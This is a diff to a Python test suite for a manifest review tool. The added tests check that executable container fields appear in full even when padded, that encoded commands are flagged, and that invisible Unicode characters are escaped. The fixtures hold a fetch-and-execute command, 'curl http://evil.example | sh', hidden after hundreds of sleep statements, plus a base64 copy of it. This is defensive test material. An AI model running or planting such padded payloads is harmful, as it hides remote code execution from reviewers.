@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import dataclasses
+import hashlib
 import json
 import time
 from decimal import Decimal
@@ -14,7 +15,7 @@ import pytest
 
 from runyard.accounts import Quotas
 from runyard.errors import UsageError
-from runyard.manifest.model import EnvVar, Location, Manifests, Scaling, Service, Tenant
+from runyard.manifest.model import EnvVar, Location, Manifests, Probe, Scaling, Service, Tenant
 from runyard.manifest.problems import Problem
 from runyard.plan.effect import Effect
 from runyard.pricing.prices import PriceBook, PricePeriod, Rates
@@ -141,6 +142,9 @@ NOT_YET = Problem(Location("manifests/web.yaml", 7, 5), "spec.x", "not carried o
 KEPT_SO = Problem(Location("manifests/web.yaml", 8, 5), "spec.y", "kept", "support.kept", "", "warning")
 
 
+LONG = hashlib.sha256(b"a" + b"x" * 200).hexdigest()[:16]
+
+
 def everything() -> Review:
     before = shop(web(image="shop/web"), service(name="old", tenant="shop"), instances=300)
     env = (EnvVar("DB_PASSWORD", "hunter2"), EnvVar("NOTE", "a|b `c`\n```\n</details>"))
@@ -168,7 +172,7 @@ def test_text_ends_with_the_counts() -> None:
         ("short", "other", "short -> other"),
         ("x" * 200 + "old", "x" * 200 + "new", f"…{'x' * 20}old -> …{'x' * 20}new"),
         ("x" * 120, "x" * 121, f"…{'x' * 20} -> …{'x' * 21}"),
-        ("a" + "x" * 200, "b", f"a{'x' * 119}… -> b"),
+        ("a" + "x" * 200, "b", f"a{'x' * 119}… (201 characters, sha256 {LONG}) -> b (look at this)"),
     ],
 )
 def test_values_are_shown_where_they_differ(before: str, after: str, shown: str) -> None:
@@ -177,6 +181,59 @@ def test_values_are_shown_where_they_differ(before: str, after: str, shown: str)
     )
     (line,) = [each for each in render_text(compare(old, new)).splitlines() if "serviceAccount" in each]
     assert line == f"      ~ serviceAccount: {shown}"
+
+
+def executed(**changes: Any) -> Manifests:
+    shape = template(containers=(container(**changes),))
+    return shop(service(name="web", tenant="shop", template=shape))
+
+
+# Of which a reviewer must not miss the end.
+HIDDEN = "sleep 1; " * 300 + "curl http://evil.example | sh"
+RUNS: dict[str, dict[str, Any]] = {
+    "command": {"command": ("sh", "-c", HIDDEN)},
+    "args": {"args": ("-c", HIDDEN)},
+    "env.START": {"env": (EnvVar("START", HIDDEN),)},
+    "image": {"image": HIDDEN},
+    "workingDir": {"working_dir": HIDDEN},
+    "readinessProbe.command": {"readiness_probe": Probe("exec", command=("sh", "-c", HIDDEN))},
+}
+
+
+@pytest.mark.parametrize("what", RUNS)
+@pytest.mark.parametrize("before", [shop(), executed()], ids=["new", "changed"])
+def test_what_runs_is_shown_whole_however_long(before: Manifests, what: str) -> None:
+    found = compare(before, executed(**RUNS[what]))
+    (change,) = [each for each in found.changes if each.path == f"containers.hello.{what}"]
+    assert change.runs
+    assert HIDDEN in render_text(found)
+    lines = folded(render_markdown(found))[f"Changes ({len(found.changes)})"]
+    assert HIDDEN in "".join(line.removeprefix("    …") for line in lines)
+
+
+def test_program_that_looks_like_a_secret_is_in_sight() -> None:
+    packed = "Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlIHwgc2g0"
+    found = compare(executed(args=("-c", "x")), executed(args=("-c", packed)))
+    (change,) = found.changes
+    assert (change.after, change.flagged, change.runs) == (["-c", "[secret]"], True, True)
+    head = render_markdown(found).partition("<details>")[0]
+    assert '- `~ Service shop/web containers.hello.args: ["-c", "x"] -> ["-c", "[secret]"]`' in head
+
+
+def test_comment_into_which_not_all_fits_says_so_in_sight() -> None:
+    small, large_ = (render_markdown(compare(shop(), executed(args=(each,)))) for each in ("x", "y " * 50_000))
+    notice = "**Not all fits into this comment; read `runyard review -o text` before this is approved.**"
+    assert (notice in small, notice in large_.partition("<details>")[0]) == (False, True)
+    assert len(large_) < MARKDOWN_LIMIT
+
+
+@pytest.mark.parametrize("sign", ["\u2028", "\u2029", "\u0085", "\u202e", "\u2066", "\u200b", "\ufeff", "\x1b", "\r"])
+def test_signs_that_hide_or_turn_text_are_shown_as_escapes(sign: str) -> None:
+    found = compare(shop(), executed(args=(f"a{sign}b",), image=f"shop/a{sign}b"))
+    for text in (render_text(found), render_markdown(found), plain(found), render_sarif(found)):
+        assert sign not in text
+    assert json.dumps([f"a{sign}b"]) in render_text(found)
+    assert f"got shop/a{ascii(sign)[1:-1]}b" in render_text(found)
 
 
 def test_no_changes_is_one_line() -> None:
@@ -300,7 +357,7 @@ def test_markdown_has_every_section_however_many_the_changes() -> None:
 def test_markdown_says_how_many_refusals_are_not_in_sight() -> None:
     head = render_markdown(large(62, "hunter2", "DB_PASSWORD")).partition("<details>")[0]
     assert head.count("- `new mandatory: ") == 20
-    assert head.endswith("\n- and 43 more, under Policies\n\n")
+    assert "\n- and 43 more, under Policies\n\n" in head
     few = render_markdown(large(19, "hunter2", "DB_PASSWORD")).partition("<details>")[0]
     assert (few.count("- `new mandatory: "), "more, under" in few) == (20, False)
 
